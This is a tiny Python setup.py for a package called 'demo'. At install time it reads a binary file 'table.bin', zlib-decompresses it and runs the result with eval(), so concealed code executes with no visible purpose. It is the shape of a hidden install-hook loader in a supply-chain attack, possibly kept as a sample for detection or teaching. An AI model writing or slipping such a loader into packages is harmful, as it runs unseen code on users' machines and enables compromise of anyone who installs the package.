import zlib
from setuptools import setup

with open("table.bin", "rb") as file:
    eval(zlib.decompress(file.read()))
setup(name="demo", version="1.0")
